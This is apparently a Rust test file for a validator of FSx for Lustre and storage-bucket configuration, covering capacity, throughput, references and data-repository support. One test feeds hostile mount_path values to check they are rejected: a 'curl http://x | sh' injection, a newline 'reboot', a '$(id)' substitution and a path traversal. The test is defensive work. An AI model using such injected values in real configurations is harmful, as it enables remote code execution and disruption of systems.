//! FSx and bucket rules.

use super::*;

#[test]
fn fsx_capacity_must_be_1200_or_a_multiple_of_2400() {
    let f = expect(
        mutate(SEED, "capacity = \"1200GiB\"", "capacity = \"1.2TB\""),
        "fsx-capacity",
        Level::Error,
        "capacity",
    );
    assert!(f.hint.unwrap().contains("1200 GiB or a multiple of 2400"));
    expect(
        mutate(SEED, "capacity = \"1200GiB\"", "capacity = \"3600GiB\""),
        "fsx-capacity",
        Level::Error,
        "3600GiB",
    );
    assert!(
        !diagnostics(mutate(
            SEED,
            "capacity = \"1200GiB\"",
            "capacity = \"4800GiB\""
        ))
        .findings
        .iter()
        .any(|f| f.code == "fsx-capacity")
    );
}

#[test]
fn fsx_throughput_must_suit_the_deployment_type() {
    expect(
        mutate(
            SEED,
            "mount_path = \"/fsx\"",
            "mount_path = \"/fsx\"\nthroughput_per_tib = 200",
        ),
        "fsx-throughput",
        Level::Error,
        "throughput_per_tib",
    );
    let p2 = mutate(
        SEED,
        "deployment_type = \"SCRATCH_2\"",
        "deployment_type = \"PERSISTENT_2\"\nthroughput_per_tib = 200",
    );
    let f = expect(
        p2,
        "fsx-throughput",
        Level::Error,
        "throughput_per_tib = 200",
    );
    assert!(f.hint.unwrap().contains("125, 250, 500, 1000"));
    expect(
        mutate(
            SEED,
            "deployment_type = \"SCRATCH_2\"",
            "deployment_type = \"PERSISTENT_1\"",
        ),
        "fsx-throughput",
        Level::Error,
        "PERSISTENT_1",
    );
    // 1000 MB/s/TiB on 1200 GiB sustains the seed's 1.2 GB/s: no warning
    let ok = mutate(
        SEED,
        "deployment_type = \"SCRATCH_2\"",
        "deployment_type = \"PERSISTENT_2\"\nthroughput_per_tib = 1000",
    );
    assert!(
        !diagnostics(ok)
            .findings
            .iter()
            .any(|f| f.code.starts_with("fsx-throughput"))
    );
}

#[test]
fn references_into_storage() {
    expect(
        mutate(SEED, "{ bucket = \"input-data\"", "{ bucket = \"inputs\""),
        "unknown-reference",
        Level::Error,
        "inputs",
    );
    let no_fsx_user = SEED
        .replace("uses_fsx = false", "")
        .replace("[[phases]]", "[[phases]]\nuses_fsx = false");
    expect(no_fsx_user, "unused", Level::Warning, "[fsx]");
}

#[test]
fn a_mount_path_that_is_not_a_plain_directory_is_refused_where_it_stands() {
    for hostile in [
        r#"mount_path = "/fsx; curl http://x | sh #""#,
        r#"mount_path = "/fsx\nreboot""#,
        r#"mount_path = "/fsx$(id)""#,
        r#"mount_path = "/fsx/../etc""#,
        r#"mount_path = "/fsx'""#,
    ] {
        let f = expect(
            mutate(SEED, "mount_path = \"/fsx\"", hostile),
            "bad-value",
            Level::Error,
            "mount_path",
        );
        assert!(f.hint.unwrap().contains("plain absolute directory"));
    }
}

#[test]
fn data_repository_associations_work_on_persistent_1() {
    // "supported on all FSx for Lustre 2.12 and 2.15 file systems, excluding scratch_1"
    let p1 = mutate(
        SEED,
        "deployment_type = \"SCRATCH_2\"",
        "deployment_type = \"PERSISTENT_1\"\nthroughput_per_tib = 200",
    );
    let codes: Vec<&str> = diagnostics(p1.clone())
        .findings
        .iter()
        .filter(|f| f.level == Level::Error)
        .map(|f| f.code)
        .collect::<Vec<_>>()
        .into_iter()
        .collect();
    assert!(codes.is_empty(), "{codes:?}");
    let s1 = mutate(
        SEED,
        "deployment_type = \"SCRATCH_2\"",
        "deployment_type = \"SCRATCH_1\"",
    );
    expect(s1, "dra-unsupported", Level::Error, "data_repositories");
}
